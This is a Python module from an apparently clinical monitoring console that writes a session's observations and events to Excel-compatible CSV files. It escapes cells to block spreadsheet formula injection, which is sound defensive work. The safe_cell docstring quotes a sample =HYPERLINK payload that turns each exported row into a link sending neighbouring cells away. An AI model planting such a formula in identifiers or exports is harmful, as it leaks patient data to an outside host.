"""CSV export of one session: its observations and its events (alarm steps included). No Qt.

Files are UTF-8 with a byte-order mark (`utf-8-sig`): Excel, which clinicians open a CSV with
by a double click, reads a file without one in the Windows code page, and every alarm row's
"≥180" read "â‰¥180", a nurse "Zoë" "ZoÃ«"; LibreOffice, Python's `csv` with
`encoding="utf-8-sig"` and pandas read the mark as one. RFC 4180: comma-separated, CRLF line
ends, a header row, fields quoted when they hold a comma, quote or line break (quotes doubled).
Times are ISO 8601 UTC with milliseconds and `Z`, as in the log; empty fields mean "none / not
known".

Every row starts with `session_id`, `patient_id`, `session_number` and `demo` (1 for a demo
session's simulated values, 0 otherwise). `observations.csv` has one row per stored observation,
corrected ones included (flagged), so the file is the complete record; `corrected` = 1 marks
a value that no longer counts: replaced by a later row whose `corrects` names it, or taken back
(`entered_in_error` = 1, no row replaces it; a clinician's audit found `corrected` = 1 on a
taken-back value and no row naming it). `before_session` = 1 marks a value that is none of
this session's, placed further before its start than its trend starts
(`queries.rows_before_the_session`: a monitor's last cuff, the previous patient's), which the
review, the PDF and the FHIR Bundle leave out; the row stays, as the log holds it.
`events.csv` has one row per `events` row and per `alarm_events` row, in the order the console
logged them (`SessionDetail.logged_rows`: events in commit order, alarm steps placed among them;
at one instant events first, those that close the session last), each at its logged time: after
a station clock set back the `at` column goes back too, as the clock read.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (a patient identifier,
a name, a note: the chair accepts them) is written with a `'` before it, so a spreadsheet shows
it as text rather than running it as a formula (OWASP "CSV injection"); a plain number, a
negative one included (RASS -3), is written as it is.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterable, Sequence
from datetime import datetime
from pathlib import Path
from typing import Any, Final

from console.clock import iso
from console.export.files import write_files
from console.review.model import LoggedEvent, SessionDetail, describe_event, ticked_texts
from console.review.queries import rows_before_the_session
from protocols.vitals import METRICS

# Every row says whose it is (patient as exported: a pseudonym when de-identified), which
# session of the course, as the screen and the PDF number it (session_id is the log's row id),
# and whether it is a demo session's (`demo` = 1: simulated values; de-identified, "DEMO-0001"
# becomes a pseudonym and nothing else said it).
OBSERVATION_COLUMNS: Final = (
    "session_id", "patient_id", "session_number", "demo", "observation_id", "metric", "label",
    "value", "unit", "source", "channel", "flags", "measured_at", "received_at", "entered_by",
    "confirmed", "corrects", "corrected", "entered_in_error", "before_session",
)
EVENT_COLUMNS: Final = (
    "session_id", "patient_id", "session_number", "demo", "at", "source", "row", "kind", "actor",
    "text", "occurrence", "condition", "category", "priority", "transition", "value",
    "threshold", "detail",
)


def _t(at: datetime | None) -> str:
    return iso(at) if at is not None else ""


def _num(value: float | None) -> str:
    if value is None:
        return ""
    return f"{value:g}" if float(value).is_integer() else repr(float(value))


def observation_rows(detail: SessionDetail) -> list[list[str]]:
    """The observations table as text rows (without the header)."""
    if not detail.observations and (detail.vitals or detail.scales):
        raise ValueError("load the session with with_observations=True to export observations")
    who = _whose(detail)
    taken_back = {c.corrects for c in detail.corrections if c.entered_in_error}
    early = rows_before_the_session(detail)   # kept, as the log holds them, and marked
    rows = []
    for o in detail.observations:
        known = METRICS.get(o.metric)
        rows.append([
            *who, str(o.id), o.metric, known.label if known else o.metric, _num(o.value), o.unit,
            o.source, o.channel, " ".join(o.flags), _t(o.measured_at), _t(o.received_at),
            o.entered_by, str(int(o.confirmed)),
            str(o.corrects) if o.corrects is not None else "", str(int(o.corrected)),
            str(int(o.id in taken_back)), str(int(o.id in early)),
        ])
    return rows


def event_rows(detail: SessionDetail) -> list[list[str]]:
    """Events and alarm steps as text rows, in the order the console logged them
    (`SessionDetail.logged_rows`: a clock set back leaves them where they were written; without
    the header)."""
    who = _whose(detail)
    rows = []
    dose = detail.first_dose()   # a discharge's minutes from it, as the review's timeline
    texts = ticked_texts(detail.ticks)   # a pre-dose item taken back by its text, as the timeline
    for e in detail.logged_rows():
        if isinstance(e, LoggedEvent):
            rows.append([
                *who, _t(e.at), "event", str(e.id), e.kind, e.actor,
                describe_event(e.kind, e.detail, texts, dose[1] if dose else 0.0),
                "", "", "", "", "", "", "", _json(e.detail),
            ])
        else:
            a, step = e
            # Its row id, as `verify` and the review name a row ("alarm_events row 35").
            rows.append([
                *who, _t(step.at), "alarm", str(step.id), f"alarm_{step.transition}",
                step.actor, step.message, str(a.occurrence), a.condition, a.category,
                step.priority, step.transition, _num(step.value), a.threshold, "",
            ])
    return rows


def _whose(detail: SessionDetail) -> list[str]:
    """The columns every row starts with: session_id, patient_id, session_number, demo."""
    s = detail.summary
    return [str(s.id), s.patient_id, str(s.session_number), str(int(s.demo))]


def _json(detail: Any) -> str:
    return json.dumps(detail, ensure_ascii=False, sort_keys=True, separators=(",", ":"))


# What a spreadsheet (Excel, LibreOffice) runs as a formula when a cell starts with it.
_FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(text: str) -> str:
    """`text` as a spreadsheet shows it and never runs it: a cell starting with a formula's
    first character gets a `'` before it, unless it is a plain number ("-3", "-0.5").

    The chair accepts any visible patient identifier and nurse name, and every row starts with
    the patient's: `=HYPERLINK("http://…?"&D2,"MRN-4711")` made each row of an export a link
    sending its neighbouring cells away (an exports review, 3 Dec 2026).
    """
    if text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def _csv_bytes(header: Sequence[str], rows: Iterable[Sequence[str]]) -> bytes:
    text = io.StringIO(newline="")
    writer = csv.writer(text, dialect="excel", lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    # With a byte-order mark: Excel, which a double click opens a CSV with, reads a file
    # without one in the Windows code page ("≥180" read "â‰¥180", "Zoë" "ZoÃ«").
    return text.getvalue().encode("utf-8-sig")


def csv_paths(detail: SessionDetail, folder: Path) -> dict[str, Path]:
    """The two files `write_session_csv` writes into `folder`; a de-identified copy's names say
    so, so it never takes the place of the identified files in the same folder."""
    stem = f"session-{detail.summary.id}" + ("-deidentified" if detail.deidentified else "")
    return {"observations": folder / f"{stem}-observations.csv",
            "events": folder / f"{stem}-events.csv"}


def write_session_csv(detail: SessionDetail, folder: Path) -> dict[str, Path]:
    """Write `session-<id>-observations.csv` and `session-<id>-events.csv` into `folder`
    (`session-<id>-deidentified-…` for a de-identified copy).

    The folder is created when missing. Both files are written whole or neither is
    (`files.write_files`). Returns {"observations": path, "events": path}.

    Raises:
        OSError: the folder or a file cannot be written.
        ValueError: `detail` was loaded without its observations.
    """
    folder = Path(folder)
    paths = csv_paths(detail, folder)
    contents = {paths["observations"]: _csv_bytes(OBSERVATION_COLUMNS, observation_rows(detail)),
                paths["events"]: _csv_bytes(EVENT_COLUMNS, event_rows(detail))}
    folder.mkdir(parents=True, exist_ok=True)
    write_files(contents)
    return paths
